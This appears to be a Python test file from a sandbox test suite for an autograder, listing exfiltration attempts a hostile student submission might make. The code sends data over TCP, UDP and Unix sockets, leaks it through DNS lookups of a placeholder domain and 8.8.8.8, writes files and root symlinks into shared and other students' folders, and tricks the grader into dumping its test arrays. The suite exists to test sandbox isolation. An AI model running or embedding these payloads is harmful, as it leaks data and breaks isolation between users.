"""Exfiltration: what a submission has learnt, told to somebody outside."""

from tests.attacks.attack import Attack
from tests.attacks.course import MARK

SOCKETS = """
import os, socket
def attempt(what):
    try: print("sent", what())
    except Exception as error: print(error)
def tcp(host, port):
    line = socket.create_connection((host, port), 1); line.sendall(b"stolen"); line.close()
def udp(host, port): socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"stolen", (host, port))
def unix(name):
    line = socket.socket(socket.AF_UNIX); line.connect(name); line.sendall(b"stolen")
"""

ATTACKS = [
    Attack(
        "calls-home", "exfiltration", "TCP and UDP, to this machine and beyond",
        code=SOCKETS + """
for host in ("127.0.0.1", "localhost", "0.0.0.0"):
    attempt(lambda: tcp(host, {port})); attempt(lambda: udp(host, {port}))
attempt(lambda: tcp("::1", {port}))
import urllib.request
attempt(lambda: urllib.request.urlopen("http://127.0.0.1:{port}/stolen", timeout=1))
""",
    ),
    Attack(
        "asks-the-dns", "exfiltration", "a secret as a host's name",
        code=SOCKETS + """
attempt(lambda: socket.getaddrinfo("stolen.example.org", 80))
attempt(lambda: udp("127.0.0.53", 53)); attempt(lambda: udp("8.8.8.8", 53))
""",
    ),
    Attack(
        "unix-sockets", "exfiltration", "named and abstract Unix sockets, by streams and datagrams",
        code=SOCKETS + """
for name in ("{socket}", "\\0{abstract}"):
    attempt(lambda: unix(name))
    attempt(lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"stolen", name))
    attempt(lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendto(b"stolen", name))
""",
    ),
    Attack(
        "every-family", "exfiltration", "sockets of every family, io_uring, raw packets",
        code=SOCKETS + """
for family in range(46):
    for kind in (1, 2, 3, 5): attempt(lambda: socket.socket(family, kind).sendto(b"stolen", ("127.0.0.1", {port})))
""",
    ),
    Attack(
        "files-outside", "exfiltration", "files for somebody else to fetch, in every folder that may be open",
        code=f"""
import os
for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/", "{{home}}", "{{course}}", "{{course}}/feedback",
               "{{course}}/autograded", "..", "../..", "{{course}}/submitted/aaa-victim/ps", "/root"):
    try: open(f"{{folder}}/{MARK}", "w").write("stolen")
    except OSError as error: print(error)
    try: os.mkdir(f"{{folder}}/{MARK}-folder"); os.symlink("/", f"{{folder}}/{MARK}-link")
    except OSError as error: print(error)
""",
    ),
    Attack(
        "by-the-judges-hand", "exfiltration", "has an array of the test's write itself to a file (tofile, dump, save)",
        code=f"""
def scale(x, k):
    if not hasattr(x, "dtype") or getattr(x.dtype, "names", None):
        for attempt in (lambda: x.tofile("{{home}}/{MARK}"), lambda: x.dump("{{home}}/{MARK}-dump")):
            try: attempt()
            except Exception as error: print(error)
    return k * x
""",
        cells={"scale": "pass"},
        deserves={"test_array": 2, "test_tensor": 2, "test_setup": 1, "test_table": 1},
    ),
]  # fmt: skip
